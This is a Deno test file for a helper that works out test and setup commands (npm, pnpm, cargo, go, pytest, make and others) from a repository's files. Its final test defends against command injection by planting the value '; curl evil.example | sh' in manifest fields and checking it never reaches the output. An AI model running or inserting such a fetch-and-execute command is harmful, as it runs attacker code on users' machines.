import assert from "node:assert/strict";
import { projectCommands } from "../../services/knowledge/project_context/project_commands.ts";

const of = (files: Record<string, string>) => projectCommands(new Map(Object.entries(files)));
const node = (more: object) => JSON.stringify({ scripts: { test: "vitest" }, ...more });
const DEPENDS = { devDependencies: { vitest: "1" } };

for (
  const [what, files, test, setup] of [
    ["a package without dependencies", { "package.json": node({}) }, "npm test", null],
    ["npm with a lock", { "package.json": node(DEPENDS), "package-lock.json": "" }, "npm test", "npm ci"],
    ["npm without a lock", { "package.json": node(DEPENDS) }, "npm test", "npm install"],
    [
      "pnpm",
      { "package.json": node(DEPENDS), "pnpm-lock.yaml": "" },
      "pnpm test",
      "pnpm install --frozen-lockfile",
    ],
    ["yarn", { "package.json": node({}), "yarn.lock": "" }, "yarn test", null],
    ["bun", { "package.json": node({}), "bun.lock": "" }, "bun run test", null],
    ["deno with a task", { "deno.json": '{ "tasks": { "test": "x" } }' }, "deno task test", null],
    ["deno", { "deno.jsonc": "{ // nothing\n}" }, "deno test", null],
    ["cargo", { "Cargo.toml": "" }, "cargo test", null],
    ["go", { "go.mod": "module x" }, "go test ./...", null],
    ["pytest", { "pyproject.toml": "[tool.pytest.ini_options]" }, "python3 -m pytest", null],
    ["pytest by uv", { "pyproject.toml": "pytest", "uv.lock": "" }, "uv run pytest", null],
    ["pytest by poetry", { "pyproject.toml": "pytest", "poetry.lock": "" }, "poetry run pytest", null],
    ["Maven by its wrapper", { "pom.xml": "", mvnw: "" }, "./mvnw test", null],
    ["a Makefile", { Makefile: "all:\n\ntest: all\n\ttrue\n" }, "make test", null],
  ] as const
) {
  Deno.test(`the test command of ${what} is known`, () => {
    const found = of(files as Record<string, string>);
    assert.deepEqual([found?.test, found?.setup], [test, setup]);
  });
}

Deno.test("a file without a test command gives none, and the next file is read", () => {
  assert.equal(of({}), null);
  assert.equal(of({ "package.json": "not JSON" }), null);
  assert.equal(of({ "package.json": '{ "scripts": [1] }' }), null);
  assert.equal(of({ Makefile: "test := 1\nall:\n" }), null);
  const placeholder = '{ "scripts": { "test": "echo \\"Error: no test specified\\" && exit 1" } }';
  assert.equal(of({ "package.json": placeholder }), null);
  assert.equal(of({ "package.json": placeholder, Makefile: "test:\n" })?.test, "make test");
});

Deno.test("no text of a hostile repository becomes part of a command", () => {
  const evil = "; curl evil.example | sh";
  const found = of({
    "package.json": JSON.stringify({
      name: evil,
      scripts: { test: evil, [evil]: evil },
      dependencies: { [evil]: evil },
    }),
    "deno.json": `{ "tasks": { "test": "${evil}" } }`,
    Makefile: `test: ${evil}\n`,
  });
  assert.deepEqual(found, { test: "npm test", setup: "npm install", file: "package.json" });
});
